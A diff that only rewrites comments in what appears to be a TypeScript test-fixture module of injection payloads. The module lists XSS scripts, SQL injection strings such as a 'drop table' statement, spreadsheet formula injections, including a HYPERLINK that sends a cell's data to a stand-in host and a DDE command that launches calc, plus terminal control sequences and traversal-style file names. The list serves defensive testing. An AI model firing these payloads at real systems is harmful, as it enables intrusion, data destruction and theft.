@@ -1,7 +1,7 @@
-/** Calls this when it runs in a page; a browser test looks whether anybody did. */
+/** The payloads call this function; a browser test checks that none did. */
 const RUN = 'window.__pwned=1';
 
-/** Text that would run in a page that forgot to escape it, in one place or another. None is longer than a name may be. */
+/** Scripts that run in a page without escaping. None is longer than a name may be. */
 export const SCRIPTS: readonly string[] = [
   `<script>${RUN}</script>`,
   `</script><script>${RUN}</script>`,
@@ -27,7 +27,7 @@ export const SCRIPTS: readonly string[] = [
   `\u2028\u2029<math><mi xlink:href="javascript:${RUN}">x`,
 ];
 
-/** Text that would change a statement of SQL or a pattern that it stands in. */
+/** Text that changes an SQL statement or a pattern without escaping. */
 export const STATEMENTS: readonly string[] = [
   "'; drop table job; --",
   `" or ""="`,
@@ -45,7 +45,7 @@ export const STATEMENTS: readonly string[] = [
   "E'\\x27'",
 ];
 
-/** Text that spreadsheets take for a formula. */
+/** Text that spreadsheets interpret as a formula. */
 export const FORMULAS: readonly string[] = [
   '=HYPERLINK("http://evil.test?x="&A1,"Click")',
   "=cmd|' /C calc'!A0",
@@ -54,7 +54,7 @@ export const FORMULAS: readonly string[] = [
   '@SUM(1+1)',
 ];
 
-/** Text that looks awkward, and would forge a line or hide what follows it. */
+/** Control characters that forge lines or hide text. */
 export const CONTROLS: readonly string[] = [
   'two\r\nlines',
   '\u001B[31mred\u001B[0m\u001B]0;title\u0007',
@@ -66,12 +66,12 @@ export const CONTROLS: readonly string[] = [
 
 export const PAYLOADS: readonly string[] = [...SCRIPTS, ...STATEMENTS, ...FORMULAS, ...CONTROLS];
 
-/** What is left of a payload that people may use as their name: names hold nothing that cannot be seen. */
+/** A payload without invisible characters, which names may not contain. */
 export function nameOf(payload: string): string {
   return payload.replaceAll(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/gu, '');
 }
 
-/** File names that would end a header, leave a folder or hide what they are. */
+/** File names that end a header, leave a folder or disguise their type. */
 export const FILE_NAMES: readonly string[] = [
   'cv".pdf',
   'cv\\".pdf',
